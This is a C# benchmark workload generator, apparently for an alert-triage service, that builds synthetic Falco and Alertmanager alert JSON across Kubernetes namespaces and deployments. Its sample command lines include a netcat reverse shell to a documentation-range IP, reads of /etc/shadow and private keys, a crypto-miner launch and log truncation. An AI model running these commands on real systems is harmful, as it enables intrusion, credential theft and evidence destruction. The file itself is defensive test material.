using System.Globalization;
using System.Text;

namespace Triage.Bench;

/// <summary>
/// A realistic Falco alert stream: 10 rules × 10 namespaces × 10 Deployments = 1,000 incident fingerprints, three
/// replica pods per Deployment, every event distinct by its nanosecond time and its output line. The same events are
/// rendered as Falco <c>http_output</c> JSON for the triage service and as Alertmanager API v2 alerts for the peer.
/// </summary>
internal static class IngestWorkload
{
    public static int Fingerprints => Rules.Length * Namespaces.Length * Apps.Length;

    /// <summary>Replica pods per Deployment.</summary>
    public const int Replicas = 3;

    private const string PodAlphabet = "bcdfghjklmnpqrstvwxz2456789";

    private static readonly (string Name, string Priority, string Tags, string Proc, string Parent, string Cmdline)[] Rules =
    [
        ("Terminal shell in container", "Notice", "\"container\",\"shell\",\"mitre_execution\",\"T1059\"", "bash", "runc", "bash -i"),
        ("Read sensitive file untrusted", "Warning", "\"filesystem\",\"mitre_credential_access\",\"T1555\"", "cat", "bash", "cat /etc/shadow"),
        ("Drop and execute new binary in container", "Critical", "\"container\",\"mitre_persistence\",\"TA0003\"", "xmrig", "sh", "/tmp/xmrig -o pool:3333"),
        ("Contact K8S API Server From Container", "Notice", "\"network\",\"k8s\",\"container\",\"mitre_discovery\",\"T1565\"", "curl", "sh", "curl -sk https://10.96.0.1/api"),
        ("Packet socket created in container", "Notice", "\"network\",\"container\",\"mitre_credential_access\",\"T1557.002\"", "tcpdump", "bash", "tcpdump -i eth0"),
        ("Redirect STDOUT/STDIN to Network Connection in Container", "Notice", "\"network\",\"process\",\"mitre_execution\",\"T1059\"", "sh", "nc", "sh -i"),
        ("Search Private Keys or Passwords", "Warning", "\"process\",\"filesystem\",\"mitre_credential_access\",\"T1552.001\"", "find", "bash", "find / -name id_rsa"),
        ("Clear Log Activities", "Warning", "\"filesystem\",\"mitre_defense_evasion\",\"T1070\"", "truncate", "bash", "truncate -s0 /var/log/app.log"),
        ("Netcat Remote Code Execution in Container", "Warning", "\"network\",\"process\",\"mitre_execution\",\"T1059\"", "nc", "bash", "nc -e /bin/sh 203.0.113.9 4444"),
        ("Fileless execution via memfd_create", "Critical", "\"container\",\"host\",\"process\",\"mitre_defense_evasion\",\"T1620\"", "memfd:x", "python3", "memfd:x"),
    ];

    private static readonly string[] Namespaces =
        ["payments", "checkout", "catalog", "identity", "search", "ads", "shipping", "ingest", "monitoring", "platform-tools"];

    private static readonly string[] Apps =
        ["api", "web", "worker", "gateway", "scheduler", "cache-proxy", "indexer", "notifier", "billing", "auth"];

    /// <summary>One event: which fingerprint and replica, and its unique sequence number (its time offset in µs).</summary>
    internal readonly record struct AlertEvent(int Fingerprint, int Replica, long Sequence);

    /// <summary>Falco <c>http_output</c> JSON: one object for a single alert, an array for a batch.</summary>
    public static byte[] FalcoBody(DateTimeOffset baseTime, ReadOnlySpan<AlertEvent> events)
    {
        var json = new StringBuilder(events.Length * 1100);
        if (events.Length > 1)
        {
            json.Append('[');
        }

        for (var i = 0; i < events.Length; i++)
        {
            if (i > 0)
            {
                json.Append(',');
            }

            AppendFalco(json, baseTime, events[i]);
        }

        if (events.Length > 1)
        {
            json.Append(']');
        }

        return Encoding.UTF8.GetBytes(json.ToString());
    }

    /// <summary>Alertmanager <c>POST /api/v2/alerts</c> body: always an array.</summary>
    public static byte[] AlertmanagerBody(DateTimeOffset baseTime, ReadOnlySpan<AlertEvent> events)
    {
        var json = new StringBuilder(events.Length * 900);
        json.Append('[');
        for (var i = 0; i < events.Length; i++)
        {
            if (i > 0)
            {
                json.Append(',');
            }

            AppendAlertmanager(json, baseTime, events[i]);
        }

        json.Append(']');
        return Encoding.UTF8.GetBytes(json.ToString());
    }

    private static void AppendFalco(StringBuilder json, DateTimeOffset baseTime, AlertEvent e)
    {
        var d = Describe(baseTime, e);
        var inv = CultureInfo.InvariantCulture;
        json.Append(inv, $$"""{"hostname":"{{d.Node}}","output":"{{d.Output}}","priority":"{{d.Rule.Priority}}","rule":"{{d.Rule.Name}}","source":"syscall","tags":[{{d.Rule.Tags}}],"time":"{{d.Time}}","output_fields":{"container.id":"{{d.ContainerId}}","container.image.repository":"{{d.Repository}}","container.image.tag":"1.{{e.Fingerprint % 7}}.3","container.name":"{{d.App}}","evt.time":{{d.EpochNanos}},"evt.type":"execve","k8s.ns.name":"{{d.Namespace}}","k8s.pod.name":"{{d.Pod}}","proc.cmdline":"{{d.Rule.Cmdline}}","proc.exepath":"/usr/bin/{{d.Rule.Proc}}","proc.name":"{{d.Rule.Proc}}","proc.pname":"{{d.Rule.Parent}}","proc.pid":{{d.Pid}},"user.loginuid":-1,"user.name":"root","user.uid":0""").Append("}}");
    }

    private static void AppendAlertmanager(StringBuilder json, DateTimeOffset baseTime, AlertEvent e)
    {
        var d = Describe(baseTime, e);
        var inv = CultureInfo.InvariantCulture;
        json.Append(inv, $$"""{"labels":{"alertname":"{{d.Rule.Name}}","severity":"{{d.Rule.Priority.ToLowerInvariant()}}","source":"falco","namespace":"{{d.Namespace}}","pod":"{{d.Pod}}","node":"{{d.Node}}","image":"{{d.Repository}}"},"annotations":{"summary":"{{d.Output}}","cmdline":"{{d.Rule.Cmdline}}","container_id":"{{d.ContainerId}}","pid":"{{d.Pid}}"},"startsAt":"{{d.Time}}","generatorURL":"http://falco.local/rules"}""");
    }

    private readonly record struct Described(
        (string Name, string Priority, string Tags, string Proc, string Parent, string Cmdline) Rule,
        string Namespace, string App, string Pod, string Node, string ContainerId, string Repository, string Time,
        long EpochNanos, int Pid, string Output);

    private static Described Describe(DateTimeOffset baseTime, AlertEvent e)
    {
        var rule = Rules[e.Fingerprint % Rules.Length];
        var ns = Namespaces[e.Fingerprint / Rules.Length % Namespaces.Length];
        var app = Apps[e.Fingerprint / (Rules.Length * Namespaces.Length)];
        var workload = (e.Fingerprint / Rules.Length) * 7919;
        var pod = $"{app}-{Chars(workload, 9)}-{Chars(workload * 31 + e.Replica + 1, 5)}";
        var node = $"node-{(workload + e.Replica) % 12:D2}";
        var containerId = $"{(uint)(workload * 2654435761L + e.Replica):x8}abcd".PadLeft(12, '0')[..12];
        var time = baseTime.AddTicks(e.Sequence * 10);
        var nanos = (time.ToUnixTimeMilliseconds() * 1_000_000) + (time.Ticks % TimeSpan.TicksPerMillisecond * 100) + 123;
        var stamp = time.UtcDateTime.ToString("yyyy-MM-dd'T'HH:mm:ss.fffffff", CultureInfo.InvariantCulture) + "23Z";
        var pid = (int)(1000 + (e.Sequence % 30000));
        var repository = $"registry.example.com/{ns}/{app}";
        var output = string.Create(CultureInfo.InvariantCulture,
            $"{time.UtcDateTime:HH:mm:ss.fffffff}23: {rule.Priority} {rule.Name} (user=root user_loginuid=-1 process={rule.Proc} proc_exepath=/usr/bin/{rule.Proc} parent={rule.Parent} command={rule.Cmdline} pid={pid} container_id={containerId} image={repository} k8s_ns={ns} k8s_pod={pod} seq={e.Sequence})");
        return new Described(rule, ns, app, pod, node, containerId, repository, stamp, nanos, pid, output);
    }

    /// <summary>Kubernetes-style random name characters (no vowels), derived from a number so names are stable.</summary>
    private static string Chars(long seed, int length)
    {
        var chars = new char[length];
        var x = (ulong)(seed + 0x9E3779B9) * 0x9E3779B97F4A7C15UL;
        for (var i = 0; i < length; i++)
        {
            chars[i] = PodAlphabet[(int)(x % (ulong)PodAlphabet.Length)];
            x = (x / (ulong)PodAlphabet.Length) ^ (x * 0xBF58476D1CE4E5B9UL);
        }

        return new string(chars);
    }
}
